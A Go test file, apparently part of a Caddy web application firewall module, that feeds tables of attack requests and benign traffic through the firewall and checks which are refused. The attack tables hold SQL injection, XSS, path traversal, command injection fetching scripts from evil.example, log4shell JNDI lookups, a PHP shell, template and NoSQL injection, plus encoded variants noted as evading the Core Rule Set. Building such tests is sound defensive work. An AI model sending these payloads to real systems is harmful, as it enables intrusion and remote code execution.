@@ -1,0 +1,328 @@
+package waf
+
+import (
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"mime/multipart"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/caddyserver/caddy/v2"
+)
+
+// multipartBody is a multipart/form-data body of the given fields.
+func multipartBody(fields ...string) (string, string) {
+	var b bytes.Buffer
+	mw := multipart.NewWriter(&b)
+	for i := 0; i+1 < len(fields); i += 2 {
+		_ = mw.WriteField(fields[i], fields[i+1])
+	}
+	_ = mw.Close()
+	return b.String(), mw.FormDataContentType()
+}
+
+func b64(s string) string    { return base64.StdEncoding.EncodeToString([]byte(s)) }
+func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
+
+// attackTable is what the WAF must refuse: the CRS's families (SQL
+// injection, XSS, traversal, command injection, log4shell, protocol
+// attacks) in every place a request carries them (query, form, multipart,
+// JSON, headers, cookies), and what the CRS alone lets through at
+// paranoia 1 (crsMisses: encoded payloads, NoSQL operators, template and
+// LDAP injection).
+func attackTable() (crsCatches, crsMisses []probe) {
+	q := url.QueryEscape
+	mpSQL, mpSQLType := multipartBody("comment", "1' UNION SELECT username, password FROM users --")
+	mpXSS, mpXSSType := multipartBody("bio", "<script>alert(document.domain)</script>")
+	mpB64, mpB64Type := multipartBody("note", b64("<script>alert(document.domain)</script>"))
+	form := "application/x-www-form-urlencoded"
+	js := "application/json"
+	crsCatches = []probe{
+		{name: "SQLi, query", method: "GET", path: "/items?id=" + q("1' OR '1'='1' --")},
+		{name: "SQLi, form", method: "POST", path: "/login", contentType: form, body: "user=" + q("admin'--") + "&pass=" + q("x' OR 1=1 --")},
+		{name: "SQLi, JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "x' UNION SELECT password FROM users --"}`},
+		{name: "SQLi, multipart", method: "POST", path: "/upload", contentType: mpSQLType, body: mpSQL},
+		{name: "SQLi, cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=1' OR '1'='1' --"}}},
+		{name: "SQLi, Referer", method: "GET", path: "/", header: http.Header{"Referer": {"https://example.com/?id=1' UNION SELECT password FROM users --"}}},
+		{name: "SQLi, time based", method: "GET", path: "/items?id=" + q("1 AND SLEEP(5)")},
+		{name: "XSS, query", method: "GET", path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
+		{name: "XSS, JSON", method: "POST", path: "/api", contentType: js, body: `{"text": "<img src=x onerror=alert(1)>"}`},
+		{name: "XSS, multipart", method: "POST", path: "/upload", contentType: mpXSSType, body: mpXSS},
+		{name: "XSS, cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"pref=<svg onload=alert(1)>"}}},
+		{name: "XSS, javascript: URL in a form", method: "POST", path: "/profile", contentType: form, body: "site=" + q("javascript:alert(document.cookie)")},
+		{name: "traversal, query", method: "GET", path: "/download?file=" + q("../../../../etc/passwd")},
+		{name: "traversal, encoded in the path", method: "GET", path: "/static/..%2f..%2f..%2fetc%2fpasswd"},
+		{name: "traversal, JSON", method: "POST", path: "/api", contentType: js, body: `{"file": "../../../../etc/shadow"}`},
+		{name: "RCE, query", method: "GET", path: "/ping?host=" + q("127.0.0.1; cat /etc/passwd")},
+		{name: "RCE, form", method: "POST", path: "/ping", contentType: form, body: "host=" + q("x|wget http://evil.example/x.sh")},
+		{name: "RCE, JSON", method: "POST", path: "/api", contentType: js, body: `{"cmd": "$(curl http://evil.example/x|sh)"}`},
+		{name: "jndi, header", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
+		{name: "jndi, User-Agent", method: "GET", path: "/", header: http.Header{"User-Agent": {"${jndi:rmi://evil.example/a}"}}},
+		{name: "jndi, JSON", method: "POST", path: "/api", contentType: js, body: `{"user": "${jndi:ldap://evil.example/a}"}`},
+		{name: "PHP code, form", method: "POST", path: "/c", contentType: form, body: "c=" + q("<?php system($_GET['c']); ?>")},
+		{name: "protocol: CRLF in a parameter (response splitting)", method: "GET", path: "/r?next=" + q("x\r\nSet-Cookie: session=evil")},
+		{name: "protocol: a method not allowed", method: "TRACE", path: "/"},
+		{name: "protocol: a content type not allowed", method: "POST", path: "/api", contentType: "application/x-evil", body: "x"},
+		// the CRS 4.25 catches these at paranoia 1 (942290 NoSQL
+		// operators in names, 921200 LDAP, 932130/933135/944xxx template
+		// and expression language code, 942270 triple encoding)
+		{name: "base64 in a data: URL", method: "POST", path: "/api", contentType: js, body: `{"doc": "data:text/plain;base64,` + b64("<script>alert(1)</script>") + `"}`},
+		{name: "percent-encoded three times in the query", method: "GET", path: "/items?id=" + q(q(q("1' UNION SELECT password FROM users --")))},
+		{name: "NoSQL $ne in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "admin", "password": {"$ne": null}}`},
+		{name: "NoSQL $gt in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "admin", "password": {"$gt": ""}}`},
+		{name: "NoSQL $where in JSON", method: "POST", path: "/find", contentType: js, body: `{"$where": "this.password.match(/^a/)"}`},
+		{name: "NoSQL $regex in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": {"$regex": "^adm"}, "password": {"$exists": true}}`},
+		{name: "NoSQL $ne in a form", method: "POST", path: "/login", contentType: form, body: "user=admin&password[$ne]=x"},
+		{name: "NoSQL $gt in the query", method: "GET", path: "/users?age[$gt]=0"},
+		{name: "NoSQL operator in JSON inside a parameter", method: "GET", path: "/find?filter=" + q(`{"password": {"$ne": null}}`)},
+		{name: "NoSQL $or in a JSON array", method: "POST", path: "/find", contentType: js, body: `{"$or": [{"a": 1}, {"b": 2}]}`},
+		{name: "SSTI ${7*7} in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "${7*7}"}`},
+		{name: "SSTI Jinja config", method: "GET", path: "/hello?name=" + q("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")},
+		{name: "SSTI Freemarker", method: "POST", path: "/c", contentType: form, body: "c=" + q(`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`)},
+		{name: "SSTI Spring EL", method: "GET", path: "/hello?name=" + q("${T(java.lang.Runtime).getRuntime().exec('id')}")},
+		{name: "SSTI Velocity", method: "POST", path: "/c", contentType: form, body: "c=" + q(`#set($x = $class.inspect("java.lang.Runtime"))`)},
+		{name: "LDAP *)(uid=*))(|(uid=*", method: "GET", path: "/users?name=" + q("*)(uid=*))(|(uid=*")},
+		{name: "LDAP admin)(&)", method: "POST", path: "/login", contentType: form, body: "user=" + q("admin)(&)") + "&pass=x"},
+		{name: "LDAP *)(|(objectclass=*)", method: "POST", path: "/login", contentType: js, body: `{"user": "*)(|(objectclass=*)", "pass": "x"}`},
+		{name: "NoSQL $expr in JSON", method: "POST", path: "/find", contentType: js, body: `{"$expr": {"$function": {"body": "function() { sleep(5000); return true }", "args": [], "lang": "js"}}}`},
+		{name: "NoSQL $accumulator", method: "POST", path: "/find", contentType: js, body: `{"group": {"$accumulator": {"init": "function() { return 1 }"}}}`},
+		{name: "NoSQL $where in a string of JSON", method: "POST", path: "/find", contentType: js, body: `{"q": "{\"$where\": \"sleep(5000)\"}"}`},
+		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
+	}
+	crsMisses = []probe{
+		// encoded
+		{name: "base64 SQLi in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
+		{name: "base64 XSS in a query parameter", method: "GET", path: "/search?q=" + q(b64("<script>alert(document.cookie)</script>"))},
+		{name: "base64url RCE in a form field", method: "POST", path: "/ping", contentType: form, body: "host=" + b64url("127.0.0.1; cat /etc/passwd")},
+		{name: "base64 traversal in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"file=" + b64("../../../../etc/passwd")}}},
+		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
+		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
+		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
+		{name: "jndi lookup in base64", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}`},
+		// NoSQL
+		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
+		// pattern does not start on
+		{name: "LDAP: a whole or-filter", method: "GET", path: "/users?name=" + q("(|(uid=*)(userPassword=*))")},
+		{name: "LDAP: after a colon", method: "POST", path: "/login", contentType: form, body: "user=" + q("x:admin)(|(objectclass=*)") + "&pass=x"},
+		// template injection
+		{name: "SSTI {{7*7}} in the query", method: "GET", path: "/hello?name=" + q("{{7*7}}")},
+		{name: "SSTI <%= 7*7 %> in a form", method: "POST", path: "/c", contentType: form, body: "c=" + q("<%= 7*7 %>")},
+		{name: "SSTI #{7*7} in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"name=#{7*7}"}}},
+		{name: "SSTI Jinja __mro__", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}`},
+		{name: "SSTI Twig _self", method: "GET", path: "/hello?name=" + q(`{{_self.env.registerUndefinedFilterCallback("exec")}}`)},
+		{name: "SSTI {{7*'7'}} in a User-Agent", method: "GET", path: "/", header: http.Header{"User-Agent": {"Mozilla/5.0 {{7*'7'}}"}}},
+		// LDAP injection
+	}
+	return crsCatches, crsMisses
+}
+
+// benignTable is ordinary traffic that must pass: the false-positive
+// budget is none of it refused, with the additions as without them.
+func benignTable() []probe {
+	q := url.QueryEscape
+	mp, mpType := multipartBody("title", "Trip to Zürich", "body", "We met O'Brien at the café; prices from $5 to $20.")
+	form := "application/x-www-form-urlencoded"
+	js := "application/json"
+	return []probe{
+		{name: "a JSON API call", method: "POST", path: "/registry/services/hello_service", contentType: js,
+			body: `{"address": "127.0.0.1:9090", "ttl": "30s", "metadata": {"version": "2", "zone": "eu-1"}, "health": {"path": "/healthz"}}`},
+		{name: "search with quotes and apostrophes", method: "GET", path: "/search?q=" + q(`O'Brien "quoted words" rock'n'roll`)},
+		{name: "search with an apostrophe, form", method: "POST", path: "/search", contentType: form, body: "q=" + q("McDonald's near St. Mary's")},
+		{name: "non-ASCII search", method: "GET", path: "/search?q=" + q("Zürich 東京 Москва 🎉")},
+		{name: "non-ASCII JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"title": "Grüße aus Köln", "body": "日本語のテキスト, émoji 🎉, naïve café"}`},
+		{name: "prices", method: "POST", path: "/api/items", contentType: js, body: `{"name": "Lamp", "price": "$5.99", "note": "was $10, now $5 - save 50%"}`},
+		{name: "an email and a URL with a query", method: "POST", path: "/api/contacts", contentType: js,
+			body: `{"email": "jane.o'neil@example.com", "site": "https://example.com/page?ref=home&lang=de"}`},
+		{name: "a query with an email", method: "GET", path: "/users?email=" + q("jane.doe+test@example.com") + "&sort=-created_at"},
+		{name: "JSON Schema ($schema, $ref, $id, $defs)", method: "POST", path: "/api/schemas", contentType: js,
+			body: `{"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/person", "type": "object", "properties": {"address": {"$ref": "#/$defs/address"}}, "$defs": {"address": {"type": "object"}}}`},
+		{name: "a $comment and a $ in a value", method: "POST", path: "/api", contentType: js, body: `{"$comment": "pricing", "total": "$ 12.50"}`},
+		{name: "Markdown with a Mustache variable", method: "POST", path: "/api/docs", contentType: js,
+			body: `{"text": "Hello {{name}}, your order {{order.id}} ships today. Use {{#items}}...{{/items}} to loop."}`},
+		// not here: "Set ${HOME}/bin in your PATH", which the CRS alone
+		// refuses (932130, 932160, 933135; a false positive of its own)
+		{name: "a code snippet in a comment", method: "POST", path: "/api/comments", contentType: js,
+			body: `{"comment": "In Go: for i := range 10 { fmt.Println(i * 2) } // prints even numbers"}`},
+		{name: "text with parentheses", method: "GET", path: "/search?q=" + q("Smith (born 1970) (née Jones)")},
+		{name: "a bearer token", method: "GET", path: "/hello_service/greet",
+			header: http.Header{"Authorization": {"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl"}}},
+		{name: "base64 text that is benign", method: "POST", path: "/api/files", contentType: js,
+			body: `{"name": "readme.txt", "content": "` + b64("Hello, world! This is a plain text file.\nLine two.") + `"}`},
+		{name: "base64 binary (a PNG header)", method: "POST", path: "/api/files", contentType: js,
+			body: `{"name": "x.png", "content": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`},
+		{name: "hex ids and long words", method: "GET", path: "/objects?id=5f2b9c3e8a1d4e6f7a8b9c0d&name=Donaudampfschifffahrt&sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
+		{name: "a form with a percent sign", method: "POST", path: "/api/discount", contentType: form, body: "code=SAVE20&note=" + q("20% off, 100% cotton")},
+		{name: "multipart text with non-ASCII and an apostrophe", method: "POST", path: "/upload", contentType: mpType, body: mp},
+		{name: "cookies of a real site", method: "GET", path: "/", header: http.Header{"Cookie": {"lang=de-CH; theme=dark; cart=" + b64(`{"items":[1,2]}`)}}},
+		{name: "a percent-encoded cookie (Google's FCCDCF, from the CRS's tests)", method: "GET", path: "/", header: http.Header{"Cookie": {"FCCDCF=%5Bnull%2Cnull%2Cnull%2Cnull%2Cnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2-fd1c-416b-a0c7-be2127c321b1%5C%22%2C%5B1764611074%2C138000000%5D%5D%22%5D%5D%5D"}}},
+		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
+	}
+}
+
+// TestDetectionBeyondTheCRS runs the attack and benign tables through a
+// real Caddy with waf (paranoia 1) and with waf { crs_only } (the CRS
+// alone, as before): every attack is refused with the additions, those
+// in crsMisses pass the CRS alone (so each one is the additions' work),
+// and no benign request is refused by either.
+func TestDetectionBeyondTheCRS(t *testing.T) {
+	crsCatches, crsMisses := attackTable()
+	benign := benignTable()
+	type tally struct{ blocked, falsePositives int }
+	run := func(block string) (tally, map[string]bool) {
+		base, _ := startCaddy(t, block)
+		refused := map[string]bool{}
+		var n tally
+		for _, p := range append(append([]probe{}, crsCatches...), crsMisses...) {
+			code, _ := send(t, base, p)
+			if testing.Verbose() {
+				t.Logf("%s: %s: %d", block, p.name, code)
+			}
+			if code == http.StatusForbidden || code == http.StatusBadRequest || code == http.StatusMethodNotAllowed {
+				refused[p.name] = true
+				n.blocked++
+			}
+		}
+		for _, p := range benign {
+			if code, body := send(t, base, p); code != http.StatusOK {
+				t.Errorf("%s: %s: %d %s, want 200 (a false positive)", block, p.name, code, body)
+				n.falsePositives++
+			}
+		}
+		return n, refused
+	}
+	before, refusedBefore := run("waf {\n\t\tcrs_only\n\t}")
+	_ = caddy.Stop()
+	after, refusedAfter := run("waf")
+	total := len(crsCatches) + len(crsMisses)
+	t.Logf("attacks refused: CRS alone %d of %d, with the additions %d of %d; benign refused: %d and %d of %d",
+		before.blocked, total, after.blocked, total, before.falsePositives, after.falsePositives, len(benign))
+	for _, p := range crsCatches {
+		if !refusedBefore[p.name] || !refusedAfter[p.name] {
+			t.Errorf("%s: refused by the CRS alone %v, with the additions %v; want both", p.name, refusedBefore[p.name], refusedAfter[p.name])
+		}
+	}
+	for _, p := range crsMisses {
+		if refusedBefore[p.name] {
+			t.Errorf("%s: the CRS alone refuses it (move it to crsCatches)", p.name)
+		}
+		if !refusedAfter[p.name] {
+			t.Errorf("%s: passed, want refused", p.name)
+		}
+	}
+}
+
+func TestPlainBase64(t *testing.T) {
+	for v, want := range map[string]string{
+		b64("<script>alert(1)</script>"):               "<script>alert(1)</script>",
+		b64url("1' OR 1=1 -- ??>>"):                    "1' OR 1=1 -- ??>>",
+		"data:text/plain;base64," + b64("hello there"): "hello there",
+		b64("Zürich 東京"):                               "Zürich 東京",
+		"dGVzdA==":                                     "", // too short
+		"Donaudampfschifffahrt":                        "", // decodes to binary
+		"9f86d081884c7d659a2feaa0c55ad015":             "", // hex: binary
+		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ": "", // PNG
+		"aGVsbG8gd29ybGQh+-_/":                         "", // mixed alphabets
+		"aGVsbG8gd29ybGQh===":                          "", // three pads
+		"aGVsbG8gd29ybGQ=x":                            "", // pad inside
+		"hello world, plainly":                         "", // not base64
+		"":                                             "",
+	} {
+		got, ok := plainBase64(v)
+		if ok != (want != "") || got != want {
+			t.Errorf("plainBase64(%q) = %q, %v; want %q", v, got, ok, want)
+		}
+	}
+}
+
+func TestDecoderBoundsAndLevels(t *testing.T) {
+	d := decoder{budget: 1000}
+	if err := d.value("q", b64(b64(b64("<script>alert(1)</script>")))); err != nil {
+		t.Fatal(err)
+	}
+	if len(d.out) != maxDecodeLevels || d.out[1].name != "q:base64:base64" {
+		t.Fatalf("levels: %+v", d.out)
+	}
+	d = decoder{budget: 1000}
+	// encoded twice more than the engine decodes: decoded once here, the
+	// CRS's t:urlDecodeUni takes the last level
+	if err := d.value("id", "1%2527%2520OR%25201%253D1"); err != nil || len(d.out) != 1 || d.out[0].value != "1%27%20OR%201%3D1" {
+		t.Fatalf("percent: %v %+v", err, d.out)
+	}
+	// encoded once more: the CRS's own (a percent-encoded cookie)
+	d = decoder{budget: 1000}
+	if err := d.value("cookie.FCCDCF", "%5Bnull%2Cnull%2C%5B%5B32%2C%22%5B%5C%2217891cd2%5C%22%5D%22%5D%5D%5D"); err != nil || len(d.out) != 0 {
+		t.Fatalf("once: %v %+v", err, d.out)
+	}
+	d = decoder{budget: 100}
+	big := b64(strings.Repeat("text ", 40)) // 200 bytes decoded
+	if err := d.value("q", big); err != errDecodeBudget {
+		t.Fatalf("over the budget: %v", err)
+	}
+}
+
+func FuzzDecode(f *testing.F) {
+	for _, s := range []string{b64("<script>"), "data:x;base64," + b64("hello there!"), "%2527", "%u0027%zz%", "aGVsbG8gd29ybGQh"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		d := decoder{budget: 4 * len(v)}
+		if err := d.value("f", v); err != nil {
+			t.Fatalf("a budget of 4x the input ran out: %v", err)
+		}
+		total := 0
+		for _, a := range d.out {
+			total += len(a.value)
+		}
+		if len(d.out) > maxDecodeLevels || total > 2*len(v) {
+			t.Fatalf("%q: %d decoded values, %d bytes", v, len(d.out), total)
+		}
+	})
+}
+
+func FuzzBodyChecks(f *testing.F) {
+	mp, mpType := multipartBody("a", "b")
+	f.Add("application/json", `{"a":{"$ne":[]},"b":"x"}`)
+	f.Add("application/x-www-form-urlencoded", "a=%zz&b=c+d&&=")
+	f.Add(mpType, mp)
+	f.Add("text/xml", `<a b="c"><!DOCTYPE x></a>`)
+	f.Fuzz(func(t *testing.T, ct, body string) {
+		extra, values, _ := bodyChecks(ct, []byte(body), 128)
+		if len(extra) > len(body)+1 || len(values) > len(body)+1 {
+			t.Fatalf("%d extra and %d values from %d bytes", len(extra), len(values), len(body))
+		}
+	})
+}
+
+// TestDecodedValuesCountAgainstTheLimits: decoded texts are body
+// arguments, so a request of many encoded values reaches max_arguments
+// (400) rather than doubling what the engine inspects; an attack behind
+// many harmless encoded values is refused, never passed.
+func TestDecodedValuesCountAgainstTheLimits(t *testing.T) {
+	base, hits := startCaddy(t, "waf")
+	body := func(n int, last string) string {
+		var b strings.Builder
+		b.WriteString("{")
+		for i := range n {
+			fmt.Fprintf(&b, `"f%d": %q, `, i, b64(fmt.Sprintf("harmless text number %d", i)))
+		}
+		fmt.Fprintf(&b, `"last": %q}`, last)
+		return b.String()
+	}
+	js := "application/json"
+	if code, resp := send(t, base, probe{name: "60 encoded fields", method: "POST", path: "/api", contentType: js, body: body(60, "x")}); code != http.StatusOK {
+		t.Fatalf("60 encoded fields and one more (121 arguments): %d %s, want 200", code, resp)
+	}
+	before := *hits
+	for _, n := range []int{63, 100, 127} {
+		code, _ := send(t, base, probe{name: "many", method: "POST", path: "/api", contentType: js, body: body(n, b64("1' UNION SELECT password FROM users --"))})
+		if code != http.StatusBadRequest && code != http.StatusForbidden {
+			t.Errorf("%d encoded fields then an encoded attack: %d, want it refused", n, code)
+		}
+	}
+	if *hits != before {
+		t.Errorf("the backend got %d of the refused requests", *hits-before)
+	}
+}
